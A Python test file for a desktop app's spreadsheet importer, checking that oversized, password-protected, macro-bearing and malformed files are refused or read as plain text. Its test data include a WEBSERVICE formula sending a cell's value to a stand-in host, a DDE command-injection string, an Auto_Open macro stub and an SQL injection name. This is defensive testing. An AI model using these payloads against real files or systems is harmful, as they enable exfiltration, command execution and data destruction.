"""Spreadsheets heavy, locked, clever or dirty: refused in words, or taken as plain text."""

import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from amane_desktop.office.errors import Refusal
from amane_desktop.office.leaving import export_list
from amane_desktop.office.office import Office
from amane_desktop.people.importing.actions import take_in
from amane_desktop.people.importing.columns import propose
from amane_desktop.people.importing.plan import plan_import
from amane_desktop.people.importing.spreadsheet import read_sheets
from amane_desktop.people.models import Family, Person
from tests.rows import rows_of

Rewrite = Callable[[str, bytes], bytes]


def a_book(path: Path, *rows: tuple[str, ...], **cells: str) -> Path:
    book = Workbook()
    for row in rows:
        book.active.append(row)
    for place, text in cells.items():
        book.active[place] = text
    book.save(path)
    return path


def rewritten(path: Path, rewrite: Rewrite, **more: bytes) -> Path:
    """The workbook with its parts passed through `rewrite`, and with others beside them."""
    with zipfile.ZipFile(path) as packed:
        parts = {name: packed.read(name) for name in packed.namelist()}
    with zipfile.ZipFile(path, "w") as packed:
        for name, content in parts.items():
            packed.writestr(name, rewrite(name, content))
        for name, content in more.items():
            packed.writestr(f"xl/{name}.bin", content)
    return path


def take(office: Office, path: Path) -> list[dict[str, object]]:
    (sheet,) = read_sheets(path)
    office.do(take_in, office.ask(plan_import, sheet.rows, 1, propose(sheet.rows[0])))
    return rows_of(office, Person)


@pytest.mark.parametrize("name", ["liste.xlsx", "liste.ods", "liste.csv"])
def test_300_megabytes_are_not_even_opened(tmp_path: Path, name: str) -> None:
    with (tmp_path / name).open("wb") as file:
        file.truncate(300_000_000)
    with pytest.raises(Refusal, match="50 MB"):
        read_sheets(tmp_path / name)


@pytest.mark.parametrize("place", ["XFD20000", "AAA9999", "IV65536"])
def test_a_lonely_cell_far_out_does_not_take_all_memory(tmp_path: Path, place: str) -> None:
    path = a_book(tmp_path / "a.xlsx", ("Prénom",), ("Yassine",), **{place: "x"})
    with pytest.raises(Refusal, match="too large"):
        read_sheets(path)


def test_a_formula_gives_its_last_result_and_is_not_worked_out(
    office: Office, tmp_path: Path
) -> None:
    path = tmp_path / "a.xlsx"
    a_book(path, ("Prénom", "Nom"), ("?", "Aït Baha"))
    with zipfile.ZipFile(path) as packed:
        sheet = packed.read("xl/worksheets/sheet1.xml")
    cell = sheet[sheet.index(b'<c r="A2"') : sheet.index(b'<c r="B2"')]
    shown = b'<c r="A2" t="str"><f>WEBSERVICE("http://x/"&amp;B2)</f><v>Yassine</v></c>'
    rewritten(path, lambda _name, content: content.replace(cell, shown))
    (person,) = take(office, path)
    assert (person["given_name"], person["family_name"]) == ("Yassine", "Aït Baha")


def test_a_text_that_looks_like_a_command_stays_a_text_on_its_way_out(
    office: Office, tmp_path: Path
) -> None:
    command = "=cmd|' /C calc'!A0"
    path = tmp_path / "a.csv"
    path.write_text(f'Prénom;Nom\n"{command}";Aït Baha\n', "utf-8")
    (person,) = take(office, path)
    assert person["given_name"] == command
    out = office.do(export_list, "Persons", ("Person",), ((command,),))
    cell = load_workbook(out).worksheets[0]["A2"]
    assert (cell.data_type, cell.value) == ("s", command)


def test_a_macro_is_never_run_and_the_file_stays_as_it_is(office: Office, tmp_path: Path) -> None:
    path = a_book(tmp_path / "a.xlsx", ("Prénom", "Nom"), ("Yassine", "Aït Baha"))
    rewritten(path, lambda _name, content: content, vbaProject=b"Sub Auto_Open()")
    macro = path.rename(tmp_path / "a.xlsm")
    before = macro.read_bytes()
    (person,) = take(office, macro)
    assert person["given_name"] == "Yassine"
    assert macro.read_bytes() == before and list(tmp_path.glob("*.xlsm")) == [macro]


def test_an_ods_with_a_password_is_refused_in_words(tmp_path: Path) -> None:
    with zipfile.ZipFile(tmp_path / "a.ods", "w") as packed:
        packed.writestr("META-INF/manifest.xml", "<m><manifest:encryption-data/></m>")
        packed.writestr("content.xml", bytes(200))
    with pytest.raises(Refusal, match="password"):
        read_sheets(tmp_path / "a.ods")


def test_a_zip_with_a_password_is_refused_in_words(tmp_path: Path) -> None:
    path = a_book(tmp_path / "a.xlsx", ("Prénom",), ("Yassine",))
    content = bytearray(path.read_bytes())
    for sign, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = content.find(sign)
        while place >= 0:
            content[place + at] |= 1  # says that the part is encrypted
            place = content.find(sign, place + 4)
    path.write_bytes(content)
    with pytest.raises(Refusal):
        read_sheets(path)


@pytest.mark.parametrize("merged", ["Z1:Z3", "B1:B2", "D50:D90"])
def test_empty_merged_cells_beyond_what_is_written_are_passed_over(
    tmp_path: Path, merged: str
) -> None:
    book = Workbook()
    for row in (("Prénom",), ("Yassine",)):
        book.active.append(row)
    book.active.merge_cells(merged)
    book.save(tmp_path / "a.xlsx")
    (sheet,) = read_sheets(tmp_path / "a.xlsx")
    assert sheet.rows == (("Prénom",), ("Yassine",))


def test_names_with_sql_and_unseen_marks_are_kept_as_they_are_read(
    office: Office, tmp_path: Path
) -> None:
    families = ("'); DROP TABLE person; --", "\u202eBouzid\u202c", "Aït\u200b Baha")
    rows = [("Prénom", "Nom"), *((f"\u2066Aya\u200f{n}", name) for n, name in enumerate(families))]
    persons = take(office, a_book(tmp_path / "a.xlsx", *rows))
    assert [row["given_name"] for row in persons] == ["Aya0", "Aya1", "Aya2"]
    kept = ["'); DROP TABLE person; --", "Bouzid", "Aït Baha"]
    assert [row["name"] for row in rows_of(office, Family)] == kept
